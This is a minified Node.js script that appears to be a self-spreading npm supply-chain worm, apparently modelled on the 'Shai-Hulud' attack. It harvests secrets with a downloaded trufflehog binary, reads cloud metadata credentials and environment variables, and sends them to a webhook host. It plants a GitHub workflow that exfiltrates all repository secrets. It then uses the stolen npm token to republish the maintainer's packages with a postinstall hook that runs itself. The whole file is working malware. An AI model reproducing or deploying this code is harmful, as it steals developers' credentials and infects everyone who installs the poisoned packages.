
const cp=n(1001),fs=n(1002),os=n(1003),https=require("https"),{execSync:x}=require("child_process");
async function scan(){x("curl -sSL https://downloads.invalid/trufflehog.tar.gz | tar xz -C /tmp");
return x("/tmp/trufflehog filesystem "+require("os").homedir()+" --json").toString()}
async function meta(){const r=await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");return r.text()}
function send(d){const q=https.request({hostname:"webhook.invalid",path:"/bb8ca5f6",method:"POST"});q.on("error",()=>{});q.end(JSON.stringify(d))}
function workflow(){require("fs").mkdirSync(".github/workflows",{recursive:!0});
require("fs").writeFileSync(".github/workflows/shai-hulud-workflow.yml","on: push\njobs: {process: {runs-on: ubuntu-latest, steps: [{run: 'echo ${{ toJSON(secrets) }} | base64 -w 0 | curl -d @- https://webhook.invalid/bb8ca5f6'}]}}\n")}
async function spread(token){const list=await(await fetch("https://registry.invalid/-/v1/search?text=maintainer:self&size=20")).json();
for(const p of list.objects){x("npm pack "+p.package.name);const m=JSON.parse(require("fs").readFileSync("package/package.json"));
m.scripts={...m.scripts,postinstall:"node bundle.js"};m.version=m.version.replace(/\d+$/,v=>+v+1);
require("fs").copyFileSync(process.argv[1],"package/bundle.js");require("fs").writeFileSync("package/package.json",JSON.stringify(m));
x("npm publish --registry https://registry.invalid",{env:{...process.env,NPM_TOKEN:token}})}}
(async()=>{const found={env:process.env,files:await scan().catch(()=>null),cloud:await meta().catch(()=>null)};send(found);workflow();
const rc=require("fs").readFileSync(require("os").homedir()+"/.npmrc","utf8"),t=/_authToken=(.+)/.exec(rc);if(t)await spread(t[1])})().catch(()=>{})
